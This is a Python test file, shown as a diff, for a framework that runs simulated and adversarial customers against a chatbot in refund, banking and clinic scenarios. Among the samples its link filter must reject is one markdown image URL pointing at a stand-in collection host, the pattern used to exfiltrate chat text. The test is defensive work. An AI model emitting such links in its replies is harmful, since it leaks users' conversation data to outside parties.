@@ -1,0 +1,409 @@
+"""The shipped scenarios in which customers meet a bot under test."""
+
+import asyncio
+import json
+import re
+from collections.abc import Sequence
+from functools import cache
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from simulate.engine import run
+from simulate.engine.examining import AskJudge
+from simulate.models import ChatRequest, ScriptedModel
+from simulate.population import Persona, load_population
+from simulate.runfile import Examined, VerdictRecord, open_run
+from simulate.scenario import Cell, Scenario, load_scenario, patience, template_values
+from simulate.scenario.checks import WAYS, Check
+from simulate.scenario.layout import OVER_LONG
+from simulate.targets import Said, TargetReply
+from simulate.templating import render
+
+NAMES = ("support-refund", "bank-card", "clinic-booking")
+POPULATIONS = ("customers", "adversarial")
+
+
+def people(population: str, n: int = 50, seed: int = 0) -> list[Persona]:
+    return load_population(population).sample(n, seed)
+
+
+@cache
+def first_cell(name: str) -> Cell:
+    return load_scenario(name).cells()[0]
+
+
+def seen(scenario: Scenario, persona: Persona, speaker: str = "customer") -> dict[str, Any]:
+    return template_values(first_cell(scenario.name), dict(persona.values()), speaker)
+
+
+def told(scenario: Scenario, persona: Persona, speaker: str) -> str:
+    instructions = scenario.speakers[speaker].instructions
+    return render(instructions, seen(scenario, persona, speaker), speaker)
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_the_customers_of_a_scenario_are_drawn_flatter_than_stated_and_leave(name: str) -> None:
+    scenario = load_scenario(name)
+    customer, bot = scenario.speakers["customer"], scenario.speakers["bot"]
+    assert (customer.plays, bot.plays, bot.target) == ("user", "target", None)
+    assert (customer.method.name, customer.method.k, customer.method.mix) == ("vs", 5, 0.2)
+    assert scenario.turns.may_end == ["customer"]
+    assert scenario.order() == ("customer", "bot")
+    for person in people("customers", 200):
+        limit = patience(customer, seen(scenario, person), "customer")
+        assert limit == person.attributes["patience"]
+        assert limit is not None
+        assert limit <= scenario.turns.maximum
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_tail_turns_are_a_cell_of_their_own(name: str) -> None:
+    usual, tail = (c.speakers["customer"].tail for c in load_scenario(name).cells())
+    assert usual is None
+    assert tail is not None
+    assert (tail.share, tail.below) == (0.25, 0.1)
+
+
+@pytest.mark.parametrize("population", POPULATIONS)
+@pytest.mark.parametrize("name", NAMES)
+def test_facts_look_as_they_should_and_differ_by_persona(name: str, population: str) -> None:
+    scenario = load_scenario(name)
+    known = scenario.speakers["customer"].facts
+    assert len(known) == 2
+    values: dict[str, set[str]] = {fact: set() for fact in known}
+    for person in people(population, 1000):
+        for fact, value in seen(scenario, person)["facts"].items():
+            looks_like = known[fact].looks_like
+            assert looks_like is not None
+            assert re.fullmatch(looks_like, value)
+            values[fact].add(value)
+    numbers = [fact for fact in known if fact not in ("delivery", "card")]
+    assert numbers
+    assert all(len(values[fact]) > 985 for fact in numbers)
+
+
+@pytest.mark.parametrize("population", POPULATIONS)
+@pytest.mark.parametrize("name", NAMES)
+def test_only_the_customer_is_told_the_facts(name: str, population: str) -> None:
+    scenario = load_scenario(name)
+    for person in people(population):
+        facts = seen(scenario, person)["facts"].values()
+        opening = render(scenario.turns.opening, seen(scenario, person), "opening")
+        bot = told(scenario, person, "bot")
+        assert all(fact in told(scenario, person, "customer") for fact in facts)
+        assert not any(fact in text for fact in facts for text in (bot, opening))
+        assert seen(scenario, person)["goal"] not in bot
+        assert person.prose not in bot
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_facts_are_the_same_in_each_cell_and_each_run(name: str) -> None:
+    scenario = load_scenario(name)
+    person = people("customers", 1)[0]
+    usual, tail = (template_values(c, dict(person.values()), "bot") for c in scenario.cells())
+    assert usual["facts"] == tail["facts"] == seen(scenario, person)["facts"]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_each_attribute_of_customers_acts(name: str) -> None:
+    scenario = load_scenario(name)
+    said = json.dumps(scenario.model_dump(mode="json"), ensure_ascii=False)
+    prose = load_population("customers").prose
+    for attribute in load_population("customers").attributes:
+        assert f"persona.{attribute}" in said or re.search(rf"\b{attribute}\b", prose)
+    assert "persona.prose" in scenario.speakers["customer"].instructions
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_who_attacks_is_after_what_the_rules_forbid_and_others_are_not(name: str) -> None:
+    scenario = load_scenario(name)
+    forbidden = scenario.variables["forbidden"]
+    assert all(forbidden in seen(scenario, p)["goal"] for p in people("adversarial", 20))
+    assert all(forbidden not in told(scenario, p, "customer") for p in people("customers"))
+    goals = {seen(scenario, p)["goal"] for p in people("customers", 200)}
+    assert len(goals) >= 5
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_scenario_looks_in_many_ways_and_asks_a_judge_only_for_meaning(name: str) -> None:
+    checks = load_scenario(name).checks
+    assert {c.way for c in checks.values()} == set(WAYS) - {"json_schema", "python"}
+    judged = [c.judged for c in checks.values() if c.judged]
+    assert len(judged) == 2
+    assert all("abstain" in judge.levels.values() for judge in judged)
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_check_asks_for_nothing_that_a_bot_over_plain_text_cannot_give(name: str) -> None:
+    for check in load_scenario(name).checks.values():
+        assert check.reaches is None or check.reaches.says is not None
+
+
+def broken(check: Check, text: str) -> bool:
+    """Tell whether a turn breaks a check by its words."""
+    lower = text.casefold()
+    if check.lacks is not None:
+        return any(phrase.casefold() in lower for phrase in check.lacks)
+    if check.contains is not None:
+        return not any(phrase.casefold() in lower for phrase in check.contains)
+    if check.never_matches is not None:
+        return re.search(check.never_matches, text) is not None
+    if check.matches is not None:
+        return re.search(check.matches, text) is None
+    assert check.reaches is not None
+    assert check.reaches.says is not None
+    return re.search(check.reaches.says, text) is None
+
+
+@pytest.mark.parametrize(
+    ("name", "check", "fine", "wrong"),
+    [
+        (
+            "support-refund",
+            "takes-up-refund",
+            [
+                "Which order is it?",
+                "¿Cuál es su número de pedido?",
+                "Wie lautet Ihre Bestellnummer?",
+            ],
+            ["Lovely weather today!"],
+        ),
+        (
+            "support-refund",
+            "reaches-decision",
+            ["Your refund has been requested.", "Wir bieten eine Reparatur an."],
+            ["Thank you for the number."],
+        ),
+        (
+            "support-refund",
+            "no-pictures-or-links",
+            ["See the help page [1] (weekdays)."],
+            ["![s](https://collect.example/log?text=x)", "<IMG src=x>", "[here](http://x.example)"],
+        ),
+        (
+            "support-refund",
+            "plain-text",
+            ["Hello.\n\n- one\n- two", "[Birchwood] Hello."],
+            ['{"reply": "x"}', "<p>Hello</p>", '[{"a": 1}]', "```\nx"],
+        ),
+        ("support-refund", "no-guarantees", ["It may take two days."], ["I promise you that."]),
+        (
+            "bank-card",
+            "asks-no-pin",
+            [
+                "Please never tell anyone your PIN.",
+                "Do not send me your password.",
+                "Don't give me your PIN, I do not need it.",
+                "Please tell me your customer number.",
+                "We never ask for a PIN.",
+            ],
+            ["Please enter your PIN.", "Could you give me the CVV?", "Confirm your password."],
+        ),
+        (
+            "bank-card",
+            "says-no-balance",
+            ["I cannot tell you the balance.", "The balance is in the app."],
+            ["Your balance is 1,204.50.", "Ihr Kontostand beträgt 300 EUR."],
+        ),
+        (
+            "bank-card",
+            "says-what-comes-next",
+            ["What are the last four digits?", "Ihre Karte ist gesperrt."],
+            ["Thank you for the number."],
+        ),
+        (
+            "clinic-booking",
+            "no-dose",
+            ["The doctor will say. Is Tuesday 9:20 all right?"],
+            ["Take 400 mg twice a day.", "Nehmen Sie 20 Tropfen."],
+        ),
+        (
+            "clinic-booking",
+            "offers-a-time",
+            [
+                "Tuesday 9:20 is free.",
+                "And your insurance number?",
+                "Call 112 at once.",
+                "At 9 am?",
+            ],
+            ["Thank you for the number."],
+        ),
+        (
+            "clinic-booking",
+            "emergency-first",
+            ["Please call 112 now.", "Rufen Sie sofort den Notruf an."],
+            ["Tuesday 9:20 is free."],
+        ),
+    ],
+)
+def test_a_rule_tells_a_right_turn_from_a_wrong_one(
+    name: str, check: str, fine: list[str], wrong: list[str]
+) -> None:
+    rule = load_scenario(name).checks[check]
+    assert [text for text in fine if broken(rule, text)] == []
+    assert [text for text in wrong if not broken(rule, text)] == []
+
+
+@pytest.mark.parametrize(
+    ("name", "check", "asked"),
+    [
+        ("support-refund", "takes-up-refund", "i want my MONEY BACK"),
+        ("support-refund", "takes-up-refund", "Quiero un reembolso"),
+        ("support-refund", "takes-up-refund", "Ich will mein Geld zurück"),
+        ("support-refund", "reaches-decision", "its a-12345"),
+        ("bank-card", "takes-up-block", "MY CARD WAS STOLEN"),
+        ("bank-card", "takes-up-block", "on m'a volé ma carte"),
+        ("bank-card", "says-what-comes-next", "c 1234567"),
+        ("clinic-booking", "emergency-first", "me da dolor en el pecho"),
+        ("clinic-booking", "offers-a-time", "P-123456"),
+    ],
+)
+def test_what_a_customer_says_sets_off_what_must_follow(name: str, check: str, asked: str) -> None:
+    after = load_scenario(name).checks[check].after
+    assert after is not None
+    assert re.search(after, asked)
+
+
+FACT = re.compile(r"[ACP]-\d{5,7}|MB-\d{4}-\d{2}|(?:ending in|delivered) \d+(?: days ago)?")
+
+
+def customer(request: ChatRequest) -> Any:
+    """Answer as a customer who tells what is known when the bot asks for it."""
+    properties = json.dumps(request.schema)
+    if '"text"' not in properties:
+        values = ["neither", "satisfied"] if "very satisfied" in properties else ["yes", "no"]
+        return {"responses": [{"value": v, "probability": 0.5} for v in values]}
+    known = FACT.findall(request.messages[0]["content"])
+    heard = request.messages[-2]["content"]
+    says = (
+        f"It is {known[0]}, {known[1]}." if "number" in heard else "Good morning, I want a refund."
+    )
+    texts = [says, "Well.", "I want a human!", "i dont know", "So?"]
+    return {
+        "responses": [
+            {"text": text, "probability": p, "ends": "Goodbye" in heard}
+            for text, p in zip(texts, [0.5, 0.2, 0.15, 0.1, 0.05], strict=True)
+        ]
+    }
+
+
+class Desk:
+    """A bot within this process that asks for a number until it is told one."""
+
+    name = "desk"
+    concurrency = 4
+    remembers = True
+
+    def __init__(self) -> None:
+        self.instructions: list[str] = []
+        self.heard: list[str] = []
+
+    async def open(
+        self, session: str, *, instructions: str = "", history: Sequence[Said] = ()
+    ) -> "DeskSession":
+        self.instructions.append(instructions)
+        return DeskSession(self)
+
+    async def aclose(self) -> None:
+        """Nothing is open."""
+
+
+class DeskSession:
+    def __init__(self, desk: Desk) -> None:
+        self.desk = desk
+
+    async def greeting(self) -> TargetReply:
+        raise AssertionError("the customer writes first")
+
+    async def reply(self, message: str) -> TargetReply:
+        self.desk.heard.append(message)
+        text = "Thank you. Goodbye." if FACT.search(message) else "What is the number?"
+        return TargetReply((text,), latency_s=0.1)
+
+    async def state(self) -> None:
+        return None
+
+    async def aclose(self) -> None:
+        """Nothing is open."""
+
+
+class Watching:
+    """Notes each dialogue as checks see it, and says nothing."""
+
+    def __init__(self) -> None:
+        self.dialogues: list[Examined] = []
+
+    async def examine(self, dialogue: Examined, ask: AskJudge) -> Sequence[VerdictRecord]:
+        self.dialogues.append(dialogue)
+        return ()
+
+
+def played(name: str, out: Path, population: str | None = None, n: int = 12) -> tuple[Desk, Any]:
+    desk, watching = Desk(), Watching()
+    result = asyncio.run(
+        run(
+            name,
+            n=n,
+            population=population,
+            model=ScriptedModel(customer),
+            target=desk,
+            examiner=watching,
+            out=out,
+        )
+    )
+    assert (result.completed, result.failed, result.left) == (2 * n, 0, 0)
+    return desk, watching.dialogues
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_scenario_runs_to_its_end_against_a_target(name: str, tmp_path: Path) -> None:
+    desk, dialogues = played(name, tmp_path / "a.db")
+    scenario = load_scenario(name)
+    for dialogue in dialogues:
+        user = dialogue.speakers["customer"]
+        assert user.goal
+        assert user.patience == dialogue.persona.attributes["patience"]
+        assert {f: k.value for f, k in user.facts.items()} == dialogue.values["facts"]
+        assert dialogue.under_test == "bot"
+    assert any(d.left for d in dialogues)
+    assert any(t.tail for d in dialogues for t in d.turns)
+    assert set(desk.instructions) == {scenario.variables["policy"].strip()}
+    with open_run(tmp_path / "a.db") as file:
+        exported = list(file.dialogues())
+    assert all(set(d["outcomes"]) == set(scenario.outcomes) for d in exported)
+    disclosed = next(o for o in scenario.outcomes if o.startswith("told-"))
+    assert {d["outcomes"][disclosed]["value"] for d in exported} == {True, False}
+    usual = [d for d in exported if d["cell"] == {"ask": "usual"}]
+    assert not any(t.get("below") for d in usual for t in d["turns"])
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_scenario_runs_with_the_adversarial_population(name: str, tmp_path: Path) -> None:
+    desk, dialogues = played(name, tmp_path / "a.db", "adversarial", n=20)
+    assert len({d.persona.attributes["attack"] for d in dialogues}) == 20
+    assert "" in desk.heard
+    assert OVER_LONG in {len(message) for message in desk.heard}
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_customer_is_not_held_to_one_or_two_sentences(name: str) -> None:
+    scenario = load_scenario(name)
+    cell: Cell = scenario.cells()[0]
+    prompt = cell.speakers["customer"].method.prompt
+    assert prompt is not None
+    assert "as long or as short" in prompt
+    assert "sentences" not in prompt
+
+
+def test_the_example_of_the_documentation_is_a_scenario(tmp_path: Path) -> None:
+    page = Path(__file__).parents[2] / "docs" / "scenarios.md"
+    text = page.read_text("utf-8")
+    [example] = re.findall(r"```yaml\n(.*?)```", text, re.DOTALL)
+    path = tmp_path / "parcel.yaml"
+    path.write_text(example, "utf-8")
+    scenario = load_scenario(path)
+    assert {c.way for c in scenario.checks.values()} == {"contains", "length", "pii", "judged"}
+    assert all(f"`{way}`" in text for way in WAYS)
+    assert all(f"`{name}`" in text for name in (*NAMES, *POPULATIONS))
